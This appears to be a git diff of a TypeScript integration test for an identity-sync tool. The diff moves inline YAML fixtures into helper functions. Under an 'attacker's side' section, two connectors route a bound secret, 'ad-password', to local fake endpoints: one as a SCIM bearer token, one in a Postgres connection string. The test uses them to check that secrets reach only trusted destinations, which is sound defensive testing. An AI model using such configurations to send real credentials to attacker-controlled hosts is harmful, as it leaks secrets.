@@ -18,6 +18,7 @@ import pg from 'pg';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { loadSecretBindings } from '../../src/engine/secret-bindings.js';
 import { openStore } from '../../src/store/open-store.js';
+import { configText, connector, flowRule, projection, scimConnector } from '../fixtures/config-yaml.js';
 
 const BIN = resolve('bin/imesh.js');
 const SECRET = `AdPw-${randomBytes(12).toString('hex')}`;
@@ -72,31 +73,20 @@ async function bindings(): Promise<{ secret: string; destination: string; connec
 
 /** The legitimate connector that binds ad-password: a PostgreSQL source on the test server. */
 function hrDb(host: string): string {
-  return `apiVersion: identitymesh.dev/v1alpha1
-kind: Connector
-metadata: { name: hr-db }
-spec:
-  type: sql
-  connection:
-    driver: postgres
-    connectionString: "postgres://${decodeURIComponent(pgUrl.username)}:{{secret:ad-password}}@${host}:${pgPort}${pgUrl.pathname}"
-  objectTypes:
-    person:
-      table: ${schema}.people
-      externalIdColumn: employee_id
----
-apiVersion: identitymesh.dev/v1alpha1
-kind: FlowRule
-metadata: { name: hrdb-to-person }
-spec:
-  source: { connector: hr-db, objectType: person }
-  meshType: person
-  join:
-    - { source: employee_id, mesh: employeeId }
-  attributes:
-    - { mesh: title, source: title, confidence: 10 }
-`;
+  return configText(
+    connector('hr-db', 'sql', {
+      connection: { driver: 'postgres', connectionString: `postgres://${decodeURIComponent(pgUrl.username)}:{{secret:ad-password}}@${host}:${pgPort}${pgUrl.pathname}` },
+      objectTypes: { person: { table: `${schema}.people`, externalIdColumn: 'employee_id' } },
+    }),
+    titleFrom('hrdb-to-person', 'hr-db/person', { employee_id: 'employeeId' }, 10),
+  );
 }
+
+/** A flow rule that only contributes `title` (at a low confidence): enough to make its connector used. */
+function titleFrom(name: string, source: string, join: Record<string, string>, confidence: number): string {
+  return flowRule(name, { source, join, attributes: { title: ['title', confidence] } });
+}
+
 
 // ---- the attacker's side -------------------------------------------------------------------------
 
@@ -132,69 +122,29 @@ function startFakePostgres(): Promise<void> {
 }
 
 function attackerConnector(): string {
-  return `apiVersion: identitymesh.dev/v1alpha1
-kind: Connector
-metadata: { name: wiki-app }
-spec:
-  type: scim
-  connection:
-    baseUrl: http://127.0.0.1:${attackerPort}/scim/v2
-    bearerToken: "{{secret:ad-password}}"
-  objectTypes:
-    user: { resource: User }
----
-apiVersion: identitymesh.dev/v1alpha1
-kind: Projection
-metadata: { name: person-to-wiki }
-spec:
-  meshType: person
-  target: { connector: wiki-app, objectType: user }
-  join: [ { target: userName, mesh: email } ]
-  attributes:
-    userName: "{{email}}"
-    displayName: "{{displayName}}"
-  onRemove: delete
----
-apiVersion: identitymesh.dev/v1alpha1
-kind: FlowRule
-metadata: { name: wiki-to-person }
-spec:
-  source: { connector: wiki-app, objectType: user }
-  meshType: person
-  join:
-    - { source: userName, mesh: email }
-  attributes:
-    - { mesh: title, source: title, confidence: 5 }
-`;
+  return configText(
+    scimConnector('wiki-app', `http://127.0.0.1:${attackerPort}/scim/v2`, 'ad-password', { user: { resource: 'User' } }),
+    projection('person-to-wiki', {
+      target: 'wiki-app/user',
+      before: { join: [{ target: 'userName', mesh: 'email' }] },
+      attributes: { userName: '{{email}}', displayName: '{{displayName}}' },
+      after: { onRemove: 'delete' },
+    }),
+    titleFrom('wiki-to-person', 'wiki-app/user', { userName: 'email' }, 5),
+  );
 }
 
+
 function exfilConnector(): string {
-  return `apiVersion: identitymesh.dev/v1alpha1
-kind: Connector
-metadata: { name: payroll-db }
-spec:
-  type: sql
-  connection:
-    driver: postgres
-    connectionString: "postgres://payroll:{{secret:ad-password}}@127.0.0.1:${fakePgPort}/payroll"
-    connectTimeoutSeconds: 5
-  objectTypes:
-    person:
-      table: payroll.people
-      externalIdColumn: employee_id
----
-apiVersion: identitymesh.dev/v1alpha1
-kind: FlowRule
-metadata: { name: payroll-to-person }
-spec:
-  source: { connector: payroll-db, objectType: person }
-  meshType: person
-  join:
-    - { source: employee_id, mesh: employeeId }
-  attributes:
-    - { mesh: title, source: title, confidence: 5 }
-`;
+  return configText(
+    connector('payroll-db', 'sql', {
+      connection: { driver: 'postgres', connectionString: `postgres://payroll:{{secret:ad-password}}@127.0.0.1:${fakePgPort}/payroll`, connectTimeoutSeconds: 5 },
+      objectTypes: { person: { table: 'payroll.people', externalIdColumn: 'employee_id' } },
+    }),
+    titleFrom('payroll-to-person', 'payroll-db/person', { employee_id: 'employeeId' }, 5),
+  );
 }
+
 
 interface PlanJson {
   projections: { name: string; deletes: number }[];
@@ -339,3 +289,4 @@ describe('secrets go only where a trusted run has sent them', { timeout: 600_000
     expect(usage.stderr).toContain('--trust-destinations goes with --dry-run');
   });
 });
+
